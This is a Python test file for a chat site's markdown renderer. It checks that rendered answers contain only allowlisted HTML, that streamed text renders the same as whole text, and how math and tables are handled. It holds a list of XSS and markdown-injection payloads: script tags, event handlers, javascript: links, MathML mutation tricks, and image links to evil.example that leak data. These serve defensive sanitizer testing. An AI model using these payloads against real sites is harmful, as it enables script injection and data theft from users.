"""Markdown of answers: what comes out can do nothing, and growing text ends as whole text does."""

from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it.rules_inline import StateInline

from chat_site import apply
from gchat.serve.site import markdown
from gchat.serve.site.markdown import MAX_TEXT, PAUSE, Growing, render
from gchat.serve.site.markdown_math import _inline
from gchat.serve.site.rendered import Rendered

# Vectors after OWASP's filter evasion cheat sheet, cure53/DOMPurify's fixtures (mXSS by MathML and
# tables), markdown-it's own list of bad links, and PayloadsAllTheThings "XSS in Markdown".
HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><script href='data:text/javascript,alert(1)'/></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<style>@import'http://evil.example/x.css';</style>",
    "<!--><img src=x onerror=alert(1)>-->",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\u0001javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](//evil.example/x)",
    "[x](/api/logout)",
    "[x](file:///etc/passwd)",
    "[x](http://a.example/\" onmouseover=\"alert(1))",
    "[x](http://a.example 'title\" onmouseover=\"alert(1)')",
    "![x](javascript:alert(1))",
    "![x](http://evil.example/leak?q=secret)",
    "![x\" onerror=\"alert(1)](http://evil.example/a.png)",
    "[![x](javascript:alert(1))](javascript:alert(1))",
    "[a]: javascript:alert(1)\n\n[a]",
    "<javascript:alert(1)>",
    "<http://a.example/\"onmouseover=alert(1)>",
    "```\"><script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```",
    "```html\n</code></pre><script>alert(1)</script>\n```",
    "    </code></pre><script>alert(1)</script>",
    "`</code><script>alert(1)</script>`",
    "| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |\n|:--|--|\n| <svg onload=x> | b |",
    "> - # <img src=x onerror=alert(1)>",
    "$\\text{<img src=x onerror=alert(1)>}$",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\class{x\" onclick=\"alert(1)}{y}$ $\\style{background:url(http://evil.example)}{y}$",
    "$$\n</math><script>alert(1)</script>\n$$",
    "\\[ \\text{</mtext></math><img src=x onerror=alert(1)>} \\]",
    "$\\unicode{x3c}script\\unicode{x3e}$",
    "# <a name=x onfocus=alert(1) autofocus>",
    "***[x](javascript:alert(1))***<b onclick=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\ud800<script>alert(1)</script>",
    "\x00<script\x00>alert(1)</script>",
)  # fmt: skip
ELEMENTS = frozenset(
    """a blockquote br button code del div em h3 h4 h5 h6 hr li ol p pre s span strong ul
    table thead tbody tr th td math mrow mi mo mn ms mtext mspace mfrac msqrt mroot msub msup
    msubsup munder mover munderover mtable mtr mtd mstyle mpadded menclose mphantom
    merror""".split()  # noqa: SIM905
)
ATTRIBUTES = frozenset(
    """href title target rel class type tabindex role aria-label start display xmlns stretchy fence
    form accent accentunder mathvariant linethickness width height depth lspace rspace minsize
    maxsize largeop movablelimits displaystyle scriptlevel columnalign rowspacing notation
    columnspacing columnlines rowlines separator symmetric voffset linebreak rowspan
    columnspan""".split()  # noqa: SIM905
)


class Inspector(HTMLParser):
    """Every element and attribute that a browser would see."""

    def __init__(self, html):
        super().__init__(convert_charrefs=True)
        self.text, self.wrong, self.links = "", [], []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        if tag not in ELEMENTS:
            self.wrong.append(tag)
        for name, value in attrs:
            if name not in ATTRIBUTES:
                self.wrong.append(f"{tag} {name}={value}")
            if name == "href":
                self.links.append(value)
                if not value.lower().startswith(("http://", "https://", "mailto:")):
                    self.wrong.append(f"href {value}")

    def handle_data(self, data):
        self.text += data

    def handle_comment(self, data):
        self.wrong.append(f"comment {data}")


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_hostile_comes_out(text):
    for around in ("{}", "> {}", "- {}\n  - {}", "| a |\n|--|\n| {} |", "**{}**"):
        html = render(around.replace("{}", text))
        assert not Inspector(html).wrong, html


def test_nothing_hostile_while_it_grows():
    for text in HOSTILE:
        growing, shown = Growing(lambda: 0.0), []  # no time passes: nothing waits
        for character in text:
            shown = apply(shown, growing.add(character))
            assert not Inspector("".join(shown)).wrong
        assert "".join(f"<div>{block}</div>" for block in shown) == render(text)


BITS = st.sampled_from(
    ["# ", "- ", "1. ", "> ", "```", "```python\n", "\n", "\n\n", "    ", "\t", "|", "|--|",
     "| a | b |\n", "---", "===", "$", "$$", "\\[", "\\]", "\\(", "*", "**", "_", "~~", "`", "[",
     "](", ")", "http://a.b/c", "<b>", "def f(): pass", "word ", "\U0001f600", "é", "\r",
     "\r\n", "&amp;", "\\", "!", "+", "  \n"]
)  # fmt: skip


@settings(max_examples=150)
@given(st.lists(st.tuples(BITS, st.integers(0, 30)), max_size=40))
def test_growing_text_ends_as_whole_text(pieces):
    """Whatever time a rendering takes, and however soon the next piece comes."""
    ticks = [0]

    def clock():
        ticks[0] += 1  # so that a rendering takes a second, and PAUSE seconds must pass
        return float(ticks[0])

    growing, shown = Growing(clock), []
    for piece, pause_s in pieces:
        ticks[0] += pause_s
        shown = apply(shown, growing.add(piece))
        assert shown == growing.blocks
        assert apply([], growing.snapshot()) == shown
    while (wait_s := growing.wait_s) is not None:
        ticks[0] += int(wait_s)
        shown = apply(shown, growing.add(""))
    assert apply([], growing.snapshot()) == shown
    assert "".join(f"<div>{block}</div>" for block in shown) == render(
        "".join(piece for piece, _ in pieces)
    )
    assert not Inspector("".join(shown)).wrong


@pytest.mark.parametrize(
    ("head", "line"), [("", "- item {}\n"), ("| n | square |\n|--|--|\n", "| {} | {} |\n")]
)
def test_a_block_that_grows_long_is_rendered_seldom(monkeypatch, head, line):
    """The clock is ours: a character takes a microsecond, and all of them a tenth of the time."""
    now, work_s, plain = [0.0], [0.0], markdown._blocks

    def slow(text):
        now[0] += len(text) * 1e-6
        work_s[0] += len(text) * 1e-6
        return plain(text)

    monkeypatch.setattr(markdown, "_blocks", slow)
    growing, shown, text = Growing(lambda: now[0]), [], head
    shown = apply(shown, growing.add(head))
    for i in range(300):
        now[0] += 0.001
        piece = line.replace("{}", str(i))
        shown, text = apply(shown, growing.add(piece)), text + piece
    assert work_s[0] < now[0] / (PAUSE - 1)  # every piece: half of the time, and more with length
    now[0] += growing.wait_s
    assert apply(shown, growing.add("")) == Growing().add(text)["html"]


def test_the_last_block_alone_is_sent_again():
    growing = Growing(lambda: 0.0)
    growing.add("para\n\n" * 50 + "```python\nx = 1\n")
    change = growing.add("y = 2\n")
    assert change["from"] == 50 and change["keep"] > 100
    assert len(change["html"]) == 1 and len(change["html"][0]) < 200


def test_what_markdown_knows():
    html = render(
        "## Title\n\nA **bold** ~~old~~ `x` https://a.example/b?c=1&d=2 line\n\n"
        "| a | b |\n|:-:|--:|\n| 1 | 2 |\n\n```py\nif x: pass\n```\n\n3. three\n"
    )
    assert "<h4>Title</h4>" in html and "<strong>bold</strong>" in html and "<s>old</s>" in html
    assert '<a href="https://a.example/b?c=1&amp;d=2"' in html
    assert 'rel="noopener noreferrer nofollow"' in html
    assert '<th class="center">a</th>' in html and '<td class="right">2</td>' in html
    assert '<span class="k">if</span>' in html and '<button type="button" class="copy">' in html
    assert '<ol start="3">' in html


@pytest.mark.parametrize(
    ("text", "formulas"),
    [("$x^2$", 1), ("\\(x\\) and \\[y\\]", 2), ("$$\n\\frac{1}{2}\n$$", 1),
     ("it costs $5 and $10", 0),
     ("`$x$`", 0), ("$$x", 0), ("a $x$ b $y$ c", 2), ("\\$x\\$", 0), ("$$a$$ is b", 1)],
)  # fmt: skip
def test_maths_is_mathml(text, formulas):
    assert render(text).count("<math") == formulas


def test_a_table_of_cells_that_nobody_wrote_is_shown_plain():
    columns = 100
    head = "|" + "a|" * columns + "\n|" + "-|" * columns + "\n"
    text = head + "|\n" * 120
    html = render(text)
    assert "<td>" not in html and "<p>|a|a|" in html and len(html) < 2 * len(text)
    full = head + ("|" + "b|" * columns + "\n") * 120
    assert render(full).count("<td>") == 120 * columns
    growing = Growing(lambda: 0.0)
    for piece in (head, *["|\n" * 20] * 6):
        growing.add(piece)
    assert "".join(f"<div>{block}</div>" for block in growing.blocks) == html


def test_html_is_kept_up_to_a_size():
    asked = []
    rendered = Rendered(lambda text: asked.append(text) or text * 9, most=100)
    assert [rendered(text) for text in "aba"] == ["a" * 9, "b" * 9, "a" * 9]
    assert asked == ["a", "b"]
    rendered("c" * 8)  # 80 characters: with it there is room for one other, a, the last asked for
    assert rendered("x" * 20) == "x" * 180 and len(rendered._kept) == 0
    asked.clear()
    rendered("d" * 8), rendered("d" * 8), rendered("e"), rendered("d" * 8), rendered("ff")
    assert asked == ["d" * 8, "e", "ff"]
    assert rendered("e") and asked[-1] == "e" and rendered._size <= 100


class Counting(str):
    """A text that counts how often something is sought in it."""

    looks = 0

    def find(self, *given):
        self.looks += 1
        return super().find(*given)


@pytest.mark.parametrize("opening", ["\\(", "\\[", "$", "$$"])
def test_a_formula_that_never_ends_is_not_sought_at_every_opening(opening):
    text = Counting("a " + opening + " \\( \\[" * 200)
    state = StateInline(text, markdown._markdown(), {}, [])
    for state.pos in range(2, len(text)):
        assert not _inline(state, True)
    assert text.looks == 0
    assert "<math" in render("[\\(x\\)](https://a.example) \\(")


def test_pictures_are_links():
    html = render("![a cat](https://pictures.example/cat.png)")
    assert "<img" not in html
    assert Inspector(html).links == ["https://pictures.example/cat.png"]
    assert Inspector(html).text.strip() == "a cat"


def test_too_long_a_text_is_shown_plain():
    html = render("*a*" * MAX_TEXT)
    assert "<em>" not in html and html.startswith("<div><p>*a*")
